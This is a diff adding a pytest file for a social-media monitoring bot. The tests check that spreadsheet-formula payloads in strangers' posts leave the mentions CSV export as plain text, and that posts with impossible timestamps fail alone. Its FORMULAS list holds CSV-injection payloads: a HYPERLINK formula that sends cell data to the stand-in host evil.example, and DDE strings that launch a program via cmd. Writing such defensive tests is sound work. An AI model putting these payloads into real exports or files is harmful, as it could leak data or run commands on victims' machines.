@@ -1,0 +1,97 @@
+"""Strangers' posts built to hurt: formulas for the spreadsheet, impossible times for the store.
+
+Each attack goes through the sandbox (`/_sandbox/audience` with `fields` writes what a hostile
+client or server would) and the real SDKs, into a real ledger, and out through the real command
+line.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from bot.ledger.mentions import MonitorStore
+from tests.clock import START
+from tests.test_monitor_sandbox import PLATFORMS, running
+
+REPO = Path(__file__).parent.parent
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def mentions(folder: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    """`python -m bot mentions` on the ledger the test's world writes (state.sqlite3)."""
+    config = folder / "config.yaml"
+    config.write_text("database: sqlite:///state.sqlite3\nplatforms:\n  x: {enabled: false}\n")
+    return subprocess.run(
+        [sys.executable, "-m", "bot", "--config", str(config), "mentions", *args],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+
+
+@pytest.mark.parametrize("platform", PLATFORMS)
+def test_a_formula_in_a_strangers_post_comes_out_of_mentions_csv_as_text(
+    platform: str, tmp_path: Path
+) -> None:
+    with running(platform, tmp_path) as world:  # type: ignore[arg-type]
+        world.poll()
+        for formula in FORMULAS:
+            author = "alice" if platform == "x" else "-evil"  # X usernames cannot start with '-'
+            world.audience("hashtag", f"{formula} #NoTechForICE", author=author)
+        assert len(world.poll()) == len(FORMULAS)
+        result = mentions(tmp_path, "--csv")
+    assert result.returncode == 0, result.stderr
+    table = list(csv.reader(io.StringIO(result.stdout)))
+    texts = [row[7] for row in table[1:]]
+    assert [t.split(" #")[0] for t in texts] == ["'" + f for f in FORMULAS]
+    for row in table[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    if platform != "x":
+        assert {row[6][:2] for row in table[1:]} == {"'-"}
+
+
+@pytest.mark.parametrize("platform", ["bluesky", "mastodon"])
+def test_a_post_dated_in_year_zero_fails_alone_and_the_stream_goes_on(
+    platform: str, database_url: str, tmp_path: Path
+) -> None:
+    created = "createdAt" if platform == "bluesky" else "created_at"
+    with running(platform, tmp_path, database=database_url) as world:  # type: ignore[arg-type]
+        world.poll()
+        world.audience("hashtag", "before #NoTechForICE")
+        (bad,) = world.control(
+            "audience",
+            kind="hashtag",
+            text="from the dawn of time #NoTechForICE",
+            fields={created: "0001-01-01T00:00:00+14:00"},
+        )["posts"]
+        unreadable = {created: "yesterday"}
+        world.control(
+            "audience", kind="hashtag", text="a time nobody can read #NoTechForICE", fields=unreadable
+        )
+        world.audience("hashtag", "after #NoTechForICE")
+        found = world.poll()
+        assert sorted(s.post.text.split(" #")[0] for s in found) == [
+            "a time nobody can read",
+            "after",
+            "before",
+            "from the dawn of time",
+        ]
+        stored = {m.remote_id: m for m in MonitorStore(world.ledger.engine).list_mentions()}
+        # The time it was seen: by the AppView (indexedAt) on Bluesky, by us on Mastodon.
+        kept = stored[bad["id"]]
+        assert kept.created_at is not None and START < kept.created_at <= kept.seen_at
+        world.audience("hashtag", "the stream still flows #NoTechForICE")
+        assert [s.post.text.split(" #")[0] for s in world.poll()] == ["the stream still flows"]
